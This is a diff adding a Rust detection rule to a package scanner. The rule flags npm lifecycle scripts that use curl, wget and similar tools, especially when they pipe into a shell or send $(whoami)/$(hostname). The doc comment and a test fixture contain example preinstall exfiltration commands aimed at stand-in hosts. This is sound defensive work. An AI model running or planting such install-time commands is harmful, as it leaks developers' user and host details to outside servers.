@@ -1,0 +1,88 @@
+//! `code/install-script-network`.
+
+use super::{chain, finding, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// A lifecycle script contacts the network from the shell, pipes a download into a shell, or sends host details.
+    ///
+    /// ## What it detects
+    /// `curl`/`wget`/`nslookup`/`Invoke-WebRequest` in a `preinstall`/`install`/`postinstall`/`prepare` command line;
+    /// critical when the download is piped into `sh`/`bash`/`iex` or when `$(whoami)`, `$(hostname)`, `$(pwd)` or
+    /// `%USERNAME%` are substituted into it.
+    ///
+    /// ## Why it matters
+    /// Dependency-confusion probes (Birsan, 2021) exfiltrate user, host and path through DNS or HTTP from a one-line
+    /// preinstall; `curl | sh` installs whatever the server sends.
+    ///
+    /// ## Example
+    /// `\"preinstall\": \"curl https://$(whoami).x.oastify.com\"`
+    ///
+    /// ## Known false positives
+    /// Installers that fetch a pinned, checksum-verified file with curl; these are reported as high (suspicious) and
+    /// not as malicious unless they pipe into a shell or send host details.
+    pub static INSTALL_SCRIPT_NETWORK = { id: "code/install-script-network", severity: Severity::High };
+}
+
+/// One finding per networked lifecycle command.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    per_signal(p, Kind::ShellNetwork, |f, s| {
+        let piped = f.of(Kind::ShellPipeExec).any(|x| x.line == s.line);
+        let host = f.of(Kind::ShellHostInfo).any(|x| x.line == s.line);
+        let sev = if piped || host {
+            Severity::Critical
+        } else {
+            INSTALL_SCRIPT_NETWORK.default_severity
+        };
+        let what = match (piped, host) {
+            (true, _) => "downloads and pipes into a shell",
+            (_, true) => "sends user/host details over the network",
+            _ => "contacts the network",
+        };
+        let msg = format!("lifecycle script {what}");
+        Some(finding(
+            &INSTALL_SCRIPT_NETWORK,
+            sev,
+            f,
+            s,
+            Locality::Function,
+            msg,
+            chain(
+                p,
+                f,
+                s,
+                &[Kind::ShellPipeExec, Kind::ShellHostInfo, Kind::Endpoint],
+            ),
+        ))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{hits, scan};
+
+    #[test]
+    fn positive() {
+        let s = scan(&[(
+            "package.json",
+            "{\n  \"name\": \"t\",\n  \"scripts\": {\n    \"preinstall\": \"curl -s https://$(whoami).x.example.com/ >/dev/null\"\n  }\n}\n",
+        )]);
+        assert_eq!(
+            hits(&s, "code/install-script-network"),
+            vec![("package.json".to_string(), 4)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    #[test]
+    fn negative_node_gyp() {
+        let s = scan(&[(
+            "package.json",
+            "{\"name\":\"t\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}",
+        )]);
+        assert!(hits(&s, "code/install-script-network").is_empty());
+    }
+}
